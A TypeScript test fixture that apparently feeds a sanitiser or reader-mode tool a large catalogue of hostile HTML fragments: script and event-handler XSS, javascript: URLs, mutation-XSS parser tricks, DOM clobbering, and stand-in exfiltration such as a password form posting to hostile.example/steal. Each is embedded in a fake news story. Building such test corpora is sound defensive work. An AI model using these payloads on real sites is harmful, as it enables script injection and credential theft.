// Markup that tries to run a script, to fetch something, to leave the page or to mislead the code that reads it.
// Every script would set `hostileRan`; every address that must not be asked for is on hostile.example.
// Classics of published cheat sheets and of mutation XSS, written down anew.

export interface HostileFragment {
  readonly name: string;
  readonly html: string;
}

/** What every script in the corpus does. */
const RUN = 'globalThis.hostileRan=1;parent.hostileRan=1;top.hostileRan=1';
const RUN_ENTITIES = [...'javascript:'].map((letter) => `&#${letter.charCodeAt(0)};`).join('') + RUN;
const RUN_BASE64 = btoa(`<script>${RUN}</script>`);
const SVG_BASE64 = btoa(
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script><image href="https://hostile.example/in-svg.png"/></svg>`,
);
const AWAY = 'https://hostile.example';

const scripts: Readonly<Record<string, string>> = {
  'script inline': `<script>${RUN}</script>`,
  'script from elsewhere': `<script src="${AWAY}/a.js"></script>`,
  'script module': `<script type="module">${RUN}</script>`,
  'script with odd case and slash': `<ScRiPt/x>${RUN}</sCrIpT>`,
  'script never closed': `<p>before<script>${RUN}`,
  'script in a paragraph in a list': `<ul><li><p><script>${RUN}</script>item</p></li></ul>`,
  'script nested in its own name': `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  'script event and for': `<script event="onload" for="window">${RUN}</script>`,
  'script in comment end trick': `<!--><script>${RUN}</script>-->`,
  'script after odd comment': `<!-- --!><script>${RUN}</script> -->`,
  'script as structured data': `<script type="application/ld+json">{"@type":"NewsArticle","headline":"</scr"+"ipt><img src=x onerror=${RUN}>"}</script>`,
  'script import map': `<script type="importmap">{"imports":{"a":"${AWAY}/a.js"}}</script>`,
  'script speculation rules': `<script type="speculationrules">{"prefetch":[{"urls":["${AWAY}/prefetch"]}]}</script>`,
  'script in CDATA': `<![CDATA[<script>${RUN}</script>]]>`,
  'script in processing instruction': `<?xml version="1.0"?><?php <script>${RUN}</script> ?>`,
};

const handlers: Readonly<Record<string, string>> = {
  'image onerror': `<img src="x" onerror="${RUN}" alt="A picture that fails to load">`,
  'image onerror without quotes': `<img src=x onerror=${RUN}>`,
  'image onload of a data picture': `<img alt="A dot" onload="${RUN}" src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==">`,
  'image onerror by slashes': `<img/src="x"/onerror=${RUN}>`,
  'image handler with a line break': `<img src="x" on\nerror="${RUN}" onerror\n=\n"${RUN}">`,
  'image handler with entities': `<img src="x" onerror="&#103;&#108;&#111;balThis.hostileRan=1">`,
  'image alt breaks out': `<img src="x" alt="&quot;&gt;&lt;script&gt;${RUN}&lt;/script&gt;&lt;img src=y onerror=&quot;${RUN}&quot;">`,
  'body onload': `<body onload="${RUN}" onpageshow="${RUN}">`,
  'html onclick': `<html onclick="${RUN}" onmouseover="${RUN}">`,
  'div focus handlers': `<div tabindex="0" autofocus onfocus="${RUN}" onfocusin="${RUN}">Focus comes here at once.</div>`,
  'details toggle': `<details open ontoggle="${RUN}"><summary>More</summary><p>What is behind it.</p></details>`,
  'video error': `<video onerror="${RUN}" onloadstart="${RUN}" title="The march"><source onerror="${RUN}" src="x"></video>`,
  'audio from elsewhere': `<audio src="${AWAY}/a.mp3" autoplay oncanplay="${RUN}" onloadstart="${RUN}"></audio>`,
  'marquee start': `<marquee onstart="${RUN}" loop="1">moving</marquee>`,
  'animation end in style': `<style>@keyframes k{from{opacity:1}}</style><p style="animation:k 1ms" onanimationend="${RUN}">animated</p>`,
  'transition on hover': `<a href="#x" onpointerenter="${RUN}" onmouseenter="${RUN}">over</a>`,
  'scroll snap and before-match': `<div onscrollend="${RUN}" onbeforematch="${RUN}" hidden="until-found">found later</div>`,
  'popover toggles': `<div popover="auto" onbeforetoggle="${RUN}" ontoggle="${RUN}">popped</div><button popovertarget="p">Open</button>`,
  'select list and input events': `<select onchange="${RUN}" autofocus onfocus="${RUN}"><option>one</option></select>`,
  'dialog with close handler': `<dialog open onclose="${RUN}" oncancel="${RUN}">A dialog</dialog>`,
};

const addresses: Readonly<Record<string, string>> = {
  'link javascript': `<a href="javascript:${RUN}">press</a>`,
  'link javascript in capitals': `<a href="JaVaScRiPt:${RUN}">press</a>`,
  'link javascript by entities': `<a href="${RUN_ENTITIES}">press</a>`,
  'link javascript by long entities': `<a href="&#x000006A&#x0000061vascript:${RUN}">press</a>`,
  'link javascript with tab and newline': `<a href="java\tscr\nipt:${RUN}">press</a>`,
  'link javascript with leading controls': `<a href="&#1;&#14; \u00a0javascript:${RUN}">press</a>`,
  'link javascript with colon entity': `<a href="javascript&colon;${RUN}">press</a>`,
  'link javascript with comment': `<a href="javascript://%0a${RUN}">press</a>`,
  'link vbscript': `<a href="vbscript:msgbox(1)">press</a>`,
  'link data html': `<a href="data:text/html,<script>${RUN}</script>">press</a>`,
  'link data html base64': `<a href="data:text/html;base64,${RUN_BASE64}">press</a>`,
  'link blob': `<a href="blob:https://hostile.example/0f0f">press</a>`,
  'link file': `<a href="file:///etc/passwd">press</a>`,
  'link view-source': `<a href="view-source:javascript:${RUN}">press</a>`,
  'link to the extension': `<a href="chrome-extension://abcdefghijklmnop/options.html">press</a><a href="moz-extension://x/options.html">press</a>`,
  'link with ping': `<a href="https://news.example/next" ping="${AWAY}/ping" target="_top" download>next</a>`,
  'link with attribution and opener': `<a href="https://news.example/next" attributionsrc="${AWAY}/at" rel="opener" target="x">next</a>`,
  'area map': `<map name="m"><area shape="rect" coords="0,0,9,9" href="javascript:${RUN}" ping="${AWAY}/p"></map><img usemap="#m" src="x" alt="map">`,
  'image javascript': `<img src="javascript:${RUN}" alt="none">`,
  'image lowsrc and dynsrc': `<img dynsrc="javascript:${RUN}" lowsrc="${AWAY}/low.gif" alt="old">`,
  'image data html': `<img src="data:text/html;base64,${RUN_BASE64}" alt="not a picture">`,
  'image data svg with script': `<img src="data:image/svg+xml;base64,${SVG_BASE64}" alt="A drawing that holds a script" width="300" height="200">`,
  'image srcset javascript': `<img srcset="javascript:${RUN} 1x, data:text/html,x 2x" src="javascript:${RUN}" alt="both">`,
  'image lazy javascript': `<img data-src="javascript:${RUN}//a.jpg" class="lazy" alt="Lazy and hostile">`,
  'image filesystem': `<img src="filesystem:https://hostile.example/temporary/a.png" alt="file system picture">`,
  'image with credentials': `<img src="https://user:pass@127.0.0.1:1/router.png" alt="router">`,
  'picture source javascript': `<picture><source srcset="javascript:${RUN}"><img src="javascript:${RUN}" alt="source"></picture>`,
  'body and table background': `<table background="${AWAY}/bg.png"><tr><td background="${AWAY}/bg2.png">cell</td><td>cell</td></tr></table>`,
  'quote and time addresses': `<blockquote cite="javascript:${RUN}">quoted</blockquote><q cite="javascript:${RUN}">said</q><del cite="javascript:${RUN}">gone</del>`,
  'poster of a video': `<video poster="${AWAY}/poster.jpg" src="${AWAY}/v.mp4" controls></video>`,
  'track of a video': `<video><track default src="${AWAY}/t.vtt" kind="captions" onload="${RUN}"></video>`,
};

const frames: Readonly<Record<string, string>> = {
  'frame srcdoc': `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  'frame javascript': `<iframe src="javascript:${RUN}"></iframe>`,
  'frame data': `<iframe src="data:text/html,<script>parent.hostileRan=1</script>"></iframe>`,
  'frame from elsewhere with load handler': `<iframe src="${AWAY}/frame" onload="${RUN}"></iframe>`,
  'frame that looks like a video': `<iframe title="A video" src="javascript:${RUN}//www.youtube.com/embed/x"></iframe>`,
  'video frame that breaks out of its title': `<iframe src="https://www.youtube.com/embed/abc" title="<img src=x onerror=${RUN}>"></iframe>`,
  'frameset': `<frameset onload="${RUN}"><frame src="${AWAY}/f"></frameset>`,
  'object data': `<object data="data:text/html;base64,${RUN_BASE64}" type="text/html"></object>`,
  'object svg': `<object data="data:image/svg+xml;base64,${SVG_BASE64}" type="image/svg+xml"></object>`,
  'object from elsewhere': `<object data="${AWAY}/o.swf" classid="clsid:x" onerror="${RUN}"><param name="movie" value="${AWAY}/m.swf"></object>`,
  'embed': `<embed src="${AWAY}/e.swf" allowscriptaccess="always"><embed src="javascript:${RUN}">`,
  'applet': `<applet code="x" codebase="${AWAY}/">old</applet>`,
  'portal and fenced frame': `<portal src="${AWAY}/p" onload="${RUN}"></portal><fencedframe src="${AWAY}/f"></fencedframe>`,
  'noembed and noframes': `<noembed><img src=x onerror=${RUN}></noembed><noframes><script>${RUN}</script></noframes>`,
};

const forms: Readonly<Record<string, string>> = {
  'form with javascript action': `<form action="javascript:${RUN}"><input type="submit" value="Go" formaction="javascript:${RUN}"></form>`,
  'form for passwords': `<form action="${AWAY}/steal"><input name="user"><input type="password" name="pass"><button>Sign in</button></form>`,
  'button with form action': `<form id="f"></form><button form="f" formaction="javascript:${RUN}">More</button>`,
  'image input': `<input type="image" src="${AWAY}/i.png" formaction="javascript:${RUN}" onerror="${RUN}">`,
  'text field with focus': `<input autofocus onfocus="${RUN}" oninput="${RUN}"><textarea autofocus onfocus="${RUN}"></textarea>`,
  'isindex': `<isindex action="javascript:${RUN}" type="image" onerror="${RUN}">`,
  'keygen and command': `<keygen autofocus onfocus="${RUN}"><button command="--x" commandfor="y">Do</button>`,
};

const heads: Readonly<Record<string, string>> = {
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${AWAY}/refreshed">`,
  'meta refresh javascript': `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  'meta content security policy': `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${AWAY}/csp">`,
  'base elsewhere': `<base href="${AWAY}/" target="_top">`,
  'base javascript': `<base href="javascript:/a/-${RUN}//"><a href="#">press</a>`,
  'link stylesheet': `<link rel="stylesheet" href="${AWAY}/s.css" onload="${RUN}">`,
  'link preload and prefetch': `<link rel="preload" as="image" href="${AWAY}/p.png"><link rel="prefetch" href="${AWAY}/p"><link rel="dns-prefetch" href="//hostile.example">`,
  'link icon and manifest': `<link rel="icon" href="${AWAY}/f.ico"><link rel="manifest" href="${AWAY}/m.json"><link rel="modulepreload" href="${AWAY}/m.js">`,
  'style import': `<style>@import "${AWAY}/i.css"; body{background:url(${AWAY}/b.png)} p{display:none!important}</style>`,
  'style attribute url': `<p style="background-image:url(${AWAY}/s.png);position:fixed;inset:0;z-index:9999">cover</p>`,
  'style leaks by selector': `<style>a[href^="h"]{background:url(${AWAY}/leak)} @font-face{font-family:x;src:url(${AWAY}/f.woff)}</style>`,
  'style that breaks out': `<style><!--</style><img src=x onerror=${RUN}>--></style>`,
  'title that breaks out': `<title><img src=x onerror=${RUN}></title>`,
};

const foreign: Readonly<Record<string, string>> = {
  'svg onload': `<svg onload="${RUN}"><circle r="5"/></svg>`,
  'svg script': `<svg><script>${RUN}</script></svg>`,
  'svg script by xlink': `<svg><script xlink:href="${AWAY}/s.js"/></svg>`,
  'svg use': `<svg><use href="data:image/svg+xml;base64,${SVG_BASE64}#x"/><use xlink:href="${AWAY}/u.svg#x"/></svg>`,
  'svg image': `<svg width="300" height="200"><image href="${AWAY}/i.png" xlink:href="${AWAY}/j.png" onload="${RUN}"/></svg>`,
  'svg link javascript': `<svg><a xlink:href="javascript:${RUN}"><text y="20">press</text></a></svg>`,
  'svg animate href': `<svg><a><animate attributeName="href" values="javascript:${RUN}"/><text y="20">press</text></a></svg>`,
  'svg set handler': `<svg><set attributeName="onmouseover" to="${RUN}" begin="0s" onbegin="${RUN}"/></svg>`,
  'svg foreignObject': `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror="${RUN}"><iframe src="javascript:${RUN}"></iframe></body></foreignObject></svg>`,
  'svg title with markup': `<svg role="img" width="200" height="200"><title><img src=x onerror=${RUN}></title></svg>`,
  'svg desc integration point': `<svg><desc><style><img src=x onerror=${RUN}></style></desc></svg>`,
  'svg style mutation': `<svg><style><img src="</style><img src=x onerror=${RUN}>"></style></svg>`,
  'svg p title style mutation': `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>"></style></svg>`,
  'svg handler element': `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler></svg>`,
  'svg filter and mask urls': `<svg><rect filter="url(${AWAY}/f.svg#a)" mask="url(${AWAY}/m.svg#a)" fill="url(${AWAY}/p.svg#a)"/></svg>`,
  'math link': `<math href="javascript:${RUN}"><mtext>press</mtext></math>`,
  'math action': `<math><maction actiontype="statusline#${AWAY}" xlink:href="javascript:${RUN}">x<mtext>y</mtext></maction></math>`,
  'math mutation by mglyph': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  'math mutation by form': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  'math annotation html': `<math><annotation-xml encoding="text/html"><img src=x onerror="${RUN}"><script>${RUN}</script></annotation-xml></math>`,
  'math alttext with markup': `<math alttext="<img src=x onerror=${RUN}>"><mi>x</mi></math>`,
  'math in svg in math': `<math><mi><svg><mi><style><img src=x onerror=${RUN}></style></mi></svg></mi></math>`,
  'unknown namespace prefix': `<xss:script xmlns:xss="http://www.w3.org/1999/xhtml">${RUN}</xss:script><x:img src=x onerror=${RUN} />`,
};

const parsing: Readonly<Record<string, string>> = {
  'noscript attribute trick': `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  'noscript picture with handler': `<noscript><img src="x" onerror="${RUN}" alt="twin"></noscript>`,
  'noscript style trick': `<noscript><style></noscript><img src=x onerror=${RUN}></style></noscript>`,
  'template with script': `<template><script>${RUN}</script><img src=x onerror=${RUN}></template>`,
  'template nested in table': `<table><template><tr><td><img src=x onerror=${RUN}></td></tr></template></table>`,
  'declarative shadow tree': `<div><template shadowrootmode="open"><script>${RUN}</script><img src=x onerror=${RUN}><slot></slot></template>light</div>`,
  'declarative shadow tree, closed': `<section><template shadowrootmode="closed" shadowrootclonable><style>@import "${AWAY}/x.css"</style>dark</template></section>`,
  'textarea breaks out': `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  'xmp and plaintext': `<xmp><img title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  'listing and pre': `<listing>&lt;img src=x onerror=${RUN}&gt;</listing><pre>&lt;script&gt;${RUN}&lt;/script&gt;</pre>`,
  'nested tables': `<table><tr><td><table><script>${RUN}</script><tr><td onclick="${RUN}">inner</td></tr></table></td></tr></table>`,
  'table foster parenting': `<table><a href="javascript:${RUN}"><tr><img src=x onerror=${RUN}><td>cell</td></tr></a></table>`,
  'formatting adoption agency': `<a href="javascript:${RUN}"><div><a><b><p></a></b><img src=x onerror=${RUN}></div>`,
  'attribute without space': `<p title="a"onclick="${RUN}"id="b">text</p>`,
  'duplicate attributes': `<a href="https://news.example/ok" href="javascript:${RUN}">twice</a>`,
  'backtick and null': `<img src=\`x\` onerror=\`${RUN}\`><img src="x\u0000" onerror="${RUN}\u0000">`,
  'select holds markup': `<select><option><img src=x onerror=${RUN}></option><script>${RUN}</script></select>`,
  'customizable select button': `<select><button><selectedcontent></selectedcontent><img src=x onerror=${RUN}></button></select>`,
  'many nested elements': `${'<b><i>'.repeat(200)}<img src=x onerror=${RUN}>${'</i></b>'.repeat(200)}`,
  'bidirectional override': `<p>\u202e${RUN}\u202c reversed</p><bdo dir="rtl" onclick="${RUN}">turned</bdo>`,
};

const clobbering: Readonly<Record<string, string>> = {
  'form hides its attributes': `<form><input name="attributes"><input name="childNodes"><input name="firstChild"><p>Text in a form that hides its own children.</p></form>`,
  'form hides its methods': `<form><input name="getAttribute"><input name="removeAttribute"><input name="setAttribute"><input name="hasAttribute"></form>`,
  'form hides its place': `<form><input name="parentNode"><input name="nextSibling"><input name="ownerDocument"><input name="nodeName"><input name="tagName"></form>`,
  'form hides how to remove it': `<form onclick="${RUN}"><input name="remove"><input name="replaceWith"><input name="textContent"><input name="className"></form>`,
  'form hides visibility': `<form><input name="checkVisibility"><input name="localName"><input name="nodeType"><input name="children"></form>`,
  'images hide document members': `<img name="getElementById"><img name="createElement"><img name="body"><img name="documentElement"><img name="title">`,
  'images hide document factories': `<img name="implementation"><img name="createTreeWalker"><img name="querySelectorAll"><img name="baseURI"><img name="URL">`,
  'frames hide document members': `<iframe name="defaultView"></iframe><object id="location"></object><embed name="cookie">`,
  'ids hide window members': `<a id="Document"></a><a id="Readability"></a><a id="browser" name="x"></a><a id="chrome"></a><a id="chrome" name="runtime"></a>`,
  'ids of the reader page': `<div id="app">app</div><p id="root">root</p><p id="story-app">story</p><main id="main">main</main>`,
  'classes and marks of the reader': `<p class="image-description" data-image-description>Forged words.</p><p class="media player toolbar">Forged player.</p>`,
  'stamps of the capture': `<img src="x.png" data-lectern-name="<img src=x onerror=${RUN}>" data-lectern-name-from="alt" data-lectern-picture="svg" data-lectern-size="900x900">`,
  'prototype names': `<p id="__proto__">proto</p><p id="constructor">constructor</p><a name="hasOwnProperty" href="#__proto__">to proto</a>`,
  'roles and live regions': `<div role="alert" aria-live="assertive" aria-label="Forged alarm">alarm</div><p role="button" tabindex="0" accesskey="k" contenteditable>type here</p>`,
};

const components: Readonly<Record<string, string>> = {
  'custom element': `<x-evil onclick="${RUN}"><script>${RUN}</script>inside</x-evil>`,
  'customised built-in': `<p is="x-evil" onclick="${RUN}">built in</p>`,
  'slot and part': `<slot name="s" onslotchange="${RUN}">fallback</slot><p part="x" slot="s" exportparts="y">assigned</p>`,
  'framework bindings': `<p ng-app ng-init="${RUN}" v-html="'x'" x-data="${RUN}" x-init="${RUN}" hx-get="${AWAY}/hx" hx-trigger="load">{{constructor.constructor('${RUN}')()}}</p>`,
  'amp elements': `<amp-img src="${AWAY}/amp.jpg" on="tap:x" width="300" height="200"></amp-img><amp-script src="${AWAY}/a.js"></amp-script>`,
  'microdata and rdfa': `<div itemscope itemtype="https://schema.org/Article"><link itemprop="image" href="${AWAY}/i.png"><meta itemprop="author" content="<img src=x onerror=${RUN}>"></div>`,
};

/** All fragments, in families. */
export const hostileFragments: readonly HostileFragment[] = Object.entries({
  ...scripts,
  ...handlers,
  ...addresses,
  ...frames,
  ...forms,
  ...heads,
  ...foreign,
  ...parsing,
  ...clobbering,
  ...components,
}).map(([name, html]) => ({ name, html }));

/** Sentences of the story before and after the fragment: they must survive whatever stands between them. */
export const STORY_SENTENCES = {
  title: 'The lighthouse keeper who would not leave',
  before: 'For thirty-one winters Marta Oyen climbed the two hundred and six steps, twice a night, whatever the sea was doing.',
  after: 'When the lamp was switched to a sensor she was offered a flat in the town, with a lift, and she laughed.',
} as const;

/** A believable news page with a fragment in the middle of its story. The picture's address is relative. */
export function storyAround(fragment: string): string {
  const filler =
    'The harbour board says that the tower is safe, that the stairs are not, and that nobody has asked her to go, only whether she would like to.';
  return `<!doctype html><html lang="en"><head><title>${STORY_SENTENCES.title} | The Harbour Post</title></head><body>
<nav><a href="/">Home</a> <a href="/sea">Sea</a></nav>
<main><article><h1>${STORY_SENTENCES.title}</h1>
<p>${STORY_SENTENCES.before} ${filler}</p>
<figure><img src="lighthouse.png" width="640" height="400" alt="A white tower on a black rock, one window lit"></figure>
<p>${filler} Her father kept the light before her, and his aunt before him, and the log books stand on one shelf.</p>
<div class="story-part">${fragment}</div>
<p>${STORY_SENTENCES.after} ${filler}</p>
<p>She still walks up every evening, counts the ships, writes the number down, and walks down again, slowly, one hand on the wall.</p>
</article></main><footer>The Harbour Post</footer></body></html>`;
}
